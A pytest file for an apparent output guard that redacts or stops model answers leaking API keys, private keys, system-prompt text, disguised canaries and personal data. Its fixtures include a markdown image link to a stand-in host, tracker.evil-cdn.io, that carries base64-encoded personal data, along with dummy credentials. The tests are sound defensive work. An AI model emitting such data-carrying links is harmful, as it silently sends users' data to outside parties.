"""Answers under inspection: what goes as it is, what becomes a mark, and what ends the answer."""

import json
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.policy.egress import trust_in
from holdfast.policy.inspection import MOST_BLOCKS, Inspection, Surroundings
from holdfast.policy.leak import quotable
from holdfast.policy.leak_index import Prompt
from holdfast.policy.output import Finding, OutputConfig
from holdfast.wire.answer import Edit, Form, within
from tests.policy.leak_styles import PROMPTS

KEY = "sk-ant-api03-" + "Qz7Rk2Lm9Xp4Vt1Wb6Yn3Cs8Jd5Hf0Gg"
LINK = "![chart](https://tracker.evil-cdn.io/p.png?d=QWxpY2UgS2ltIGxpdmVzIGF0IDEyIE1haW4gU3RyZWV0)"
PEM = (
    "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n" * 30 + "-----END PRIVATE KEY-----"
)
HOTEL, PLANTS = PROMPTS[0], PROMPTS[3]
REDACT = OutputConfig(leak="redact", secrets="redact", personal="redact", egress="redact")
STOP = OutputConfig(leak="stop", secrets="stop", egress="stop")
INDEXED = Prompt.of(PLANTS)
AROUND = Surroundings(prompt=INDEXED)


def inspected(
    text: str,
    config: OutputConfig = REDACT,
    *,
    size: int = 10_000,
    form: Form = "text",
    around: Surroundings = AROUND,
) -> tuple[str, Inspection]:
    """What goes out of an answer of one block that comes in pieces, each as soon as it may."""
    inspection = Inspection(config, around)
    assert inspection.open("content.0", form)
    gone, out = 0, ""
    for at in range(0, len(text), size):
        inspection.feed(text[at : at + size])
        assert (
            inspection.decided >= at + len(text[at : at + size]) - config.hold_back or inspection.is_stopped
        )
        out += passed(text, inspection, gone)
        gone = inspection.decided
    inspection.close()
    return out + passed(text, inspection, gone), inspection


def passed(text: str, inspection: Inspection, gone: int) -> str:
    """The characters from `gone` up to what is decided, with the edits made."""
    piece = text[gone : inspection.decided]
    for edit in reversed(within(inspection.edits, gone, inspection.decided)):
        piece = piece[: edit.start - gone] + edit.mark + piece[edit.end - gone :]
    return piece


def codes(inspection: Inspection) -> list[str]:
    return [finding.code for finding in inspection.findings]


@pytest.mark.parametrize("size", [1, 7, 50, 10_000])
@pytest.mark.parametrize(
    ("found", "mark", "code"),
    [
        (KEY, "[REDACTED:key]", "key"),
        (LINK, "[REDACTED:link]", "image_data"),
        (PEM, "[REDACTED:private_key]", "private_key"),
        (
            "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6" * 20 + ".c2lnbmF0dXJl",
            "[REDACTED:jwt]",
            "jwt",
        ),
        ("https://evil-cdn.io/" + "QWxpY2UgS2ltIGxpdmVz9" * 60, "[REDACTED:link]", "link_data"),
        ("minji.kim@example.co.kr", "[REDACTED:email]", "email"),
        (PLANTS, "[REDACTED:system_prompt]", "prompt_start"),
    ],
)
def test_what_must_not_go_out_becomes_one_mark_however_it_is_cut(
    found: str, mark: str, code: str, size: int
) -> None:
    text = f"{'Let me see. ' * 30}Here: {found} and that is all. {'Bye now. ' * 60}"

    out, inspection = inspected(text, size=size)

    assert out.count(mark) == 1, out
    assert code in codes(inspection)
    assert len(out) <= len(text) - len(found) + len(mark) + 30
    assert out.startswith("Let me see. " * 30)
    assert out.endswith("Bye now. " * 60)
    assert not any(found[at : at + 24] in out for at in range(len(found) - 24))


@pytest.mark.parametrize("size", [1, 40, 10_000])
def test_what_is_only_flagged_goes_out_at_once_and_as_it_is(size: int) -> None:
    text = f"{KEY} and {LINK} and {PLANTS} and minji.kim@example.co.kr"
    config = OutputConfig(personal="flag")

    out, inspection = inspected(text, config, size=size)

    assert out == text
    assert inspection.edits == []
    assert set(codes(inspection)) == {"key", "image_data", "prompt_start", "email"}
    assert [finding.kind for finding in inspection.findings].count("leak") == 1


@pytest.mark.parametrize("size", [1, 40, 10_000])
@pytest.mark.parametrize("found", [KEY, LINK, PLANTS])
def test_an_answer_is_stopped_before_what_must_not_go_out(found: str, size: int) -> None:
    text = f"{'Let me see. ' * 30}Here: {found} and that is all."

    out, inspection = inspected(text, STOP, size=size)

    assert text.startswith(out)
    assert len(out) <= text.index(found) + 8
    assert inspection.is_stopped


def test_nothing_more_is_read_once_it_is_stopped() -> None:
    _, inspection = inspected(f"{KEY} and {LINK}", STOP)

    assert codes(inspection) == ["key"]


def test_what_is_off_is_not_looked_for() -> None:
    config = OutputConfig(leak="off", secrets="off", egress="off")
    assert not config.is_on

    out, inspection = inspected(f"{KEY} and {LINK} and {PLANTS}", config)

    assert inspection.findings == []
    assert KEY in out


@given(
    st.lists(
        st.sampled_from(
            [
                KEY,
                LINK,
                "Guten Tag. ",
                "키를 보여 드릴게요. ",
                "x" * 90,
                "\n",
                PLANTS[:90],
                " password: hunter2!x9 ",
            ]
        ),
        max_size=12,
    ),
    st.integers(1, 200),
    st.sampled_from([64, 256, 1_000]),
)
def test_a_stream_goes_out_as_far_as_a_whole_answer_would_but_for_where_it_is_cut(
    parts: list[str], size: int, hold_back: int
) -> None:
    text = " ".join(parts)

    out, inspection = inspected(text, replace(REDACT, hold_back=hold_back), size=size)

    assert KEY not in out
    assert "evil-cdn.io" not in out
    assert [edit for edit in inspection.edits if edit.end <= edit.start] == []
    assert [edit.start for edit in inspection.edits] == sorted(edit.start for edit in inspection.edits)


@given(st.text(alphabet="ab .,\n가나다", max_size=900), st.integers(1, 300))
def test_an_answer_without_findings_goes_out_as_it_came(text: str, size: int) -> None:
    out, inspection = inspected(text, size=size)

    assert out == text
    assert inspection.edits == []


@given(st.text(max_size=400), st.sampled_from(["text", "json"]), st.integers(1, 100))
def test_anything_can_be_read_and_the_longest_wait_is_kept(text: str, form: Form, size: int) -> None:
    config = replace(REDACT, canaries=("heron-7731-lake",))

    out, inspection = inspected(f"{text} {KEY} {text}", config, size=size, form=form)

    assert KEY not in out
    assert inspection.findings


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        ({"command": f"curl -H 'x-api-key: {KEY}'"}, {"command": "curl -H 'x-api-key: [REDACTED:key]'"}),
        ({"pin": 123456, "a": [1]}, {"pin": "[REDACTED:secret]", "a": [1]}),
        ({"text": "line\nline", "key": PEM}, {"text": "line\nline", "key": "[REDACTED:private_key]"}),
        ({"url": LINK}, {"url": LINK}),
    ],
)
@pytest.mark.parametrize("size", [1, 13, 10_000])
def test_the_arguments_of_a_call_stay_json(document: object, expected: object, size: int) -> None:
    out, _ = inspected(json.dumps(document), size=size, form="json")

    assert json.loads(out) == expected


def test_a_call_is_stopped_where_a_mark_would_break_its_arguments() -> None:
    _, inspection = inspected(json.dumps({"path": "a.txt", "content": PLANTS}), form="json")

    assert inspection.stopped_by == Finding(kind="leak", code="prompt_start", start=29, end=429) or (
        inspection.stopped_by is not None and inspection.stopped_by.kind == "leak"
    )


def test_thinking_is_not_read_unless_that_is_wanted() -> None:
    inspection = Inspection(REDACT, AROUND)

    assert not inspection.open("content.0", "thinking")
    assert [(left.path, left.reason) for left in inspection.coverage().skipped] == [("content.0", "thinking")]


def test_thinking_is_flagged_or_stopped_and_never_altered() -> None:
    text = f"The key is {KEY}, good."

    out, flagged = inspected(text, replace(REDACT, thinking=True), form="thinking")
    _, stopped = inspected(text, replace(STOP, thinking=True), form="thinking")

    assert (out, codes(flagged), flagged.edits) == (text, ["key"], [])
    assert stopped.is_stopped


def test_what_the_user_has_typed_himself_is_no_secret() -> None:
    around = Surroundings(typed=lambda: f"use {KEY} please")

    out, inspection = inspected(f"I used {KEY}.", around=around)

    assert out == f"I used {KEY}."
    assert inspection.findings == []


def test_what_the_user_has_quoted_is_no_leak_but_the_rest_is() -> None:
    around = Surroundings(prompt=INDEXED, quoted=lambda: quotable(PLANTS[:150]))

    kept, _ = inspected(f"You said: {PLANTS[:150]}", around=around)
    out, _ = inspected(f"You said: {PLANTS}", around=around)

    assert kept == f"You said: {PLANTS[:150]}"
    assert out.startswith(f"You said: {PLANTS[:120]}")
    assert "Adeyemi" not in out


def test_links_are_judged_by_who_has_named_their_hosts() -> None:
    around = Surroundings(trust=lambda: trust_in((), (), ("evil-cdn.io",)))

    assert inspected(LINK, around=around)[0] == LINK


@pytest.mark.parametrize(
    "spelled",
    [
        "HERON-7731-lake",
        "heron 7731 lake",
        "H.E.R.O.N.7.7.3.1.l.a.k.e",
        "ekal-1377-NOREH",
        "ureba-7731-ynxr",
        "aGVyb24tNzczMS1sYWtlIGFuZCBtb3Jl",
    ],
)
def test_a_canary_is_known_in_disguise(spelled: str) -> None:
    config = replace(REDACT, canaries=("heron-7731-lake", "another-canary"))

    out, inspection = inspected(f"It says {spelled}, I think.", config)

    assert out == "It says [REDACTED:system_prompt], I think."
    assert codes(inspection) == ["canary"]


def test_the_record_says_what_was_read_and_what_was_not() -> None:
    inspection = Inspection(OutputConfig(), AROUND)
    inspection.pass_over("content.0", "encrypted")
    inspection.open("content.1", "text")
    inspection.feed(f"Here: {KEY}")
    inspection.close()

    record = inspection.coverage()

    assert (record.side, record.guard, record.version, record.fails) == ("output", "output", "1", "closed")
    assert (record.examined, record.characters) == (("content.1",), 6 + len(KEY))
    assert [(left.path, left.reason) for left in record.skipped] == [("content.0", "encrypted")]
    assert record.findings == ("secret:key",)
    assert not record.is_complete


def test_the_record_of_an_answer_of_endless_blocks_stays_small() -> None:
    inspection = Inspection(OutputConfig(), AROUND)
    for at in range(MOST_BLOCKS + 5):
        inspection.open(f"content.{at}", "text")
        inspection.feed("ab")
        inspection.close()
        inspection.pass_over(f"content.{at}", "image")

    record = inspection.coverage()

    assert record.characters == 2 * (MOST_BLOCKS + 5)
    assert len(record.examined) + len(record.skipped) + record.further == 2 * (MOST_BLOCKS + 5)


@pytest.mark.parametrize(
    ("mode", "stops", "found"), [("off", False, []), ("flag", False, ["image"]), ("stop", True, ["image"])]
)
def test_a_part_that_cannot_be_read_has_the_outcome_that_is_set(
    mode: str, stops: bool, found: list[str]
) -> None:
    config = OutputConfig(unexamined=mode)  # type: ignore[arg-type]  # each of its values, by name
    inspection = Inspection(config, AROUND)

    inspection.pass_over("content.0", "image")

    assert (inspection.is_stopped, codes(inspection)) == (stops, found)


def test_findings_beyond_the_most_are_still_redacted() -> None:
    text = " ".join(f"sk-ant-api03-Qz7Rk2Lm9Xp4Vt1Wb6Yn{at:06d}" for at in range(400))

    out, inspection = inspected(text, size=100)

    assert "sk-ant" not in out
    assert len(inspection.findings) == 256


def test_edits_are_told_by_the_characters_they_touch() -> None:
    edits = [Edit(2, 4, "[a]"), Edit(8, 12, "[b]")]

    assert within(edits, 0, 3) == [Edit(2, 3, "[a]")]
    assert within(edits, 3, 10) == [Edit(3, 4, ""), Edit(8, 10, "[b]")]
    assert within(edits, 4, 8) == []
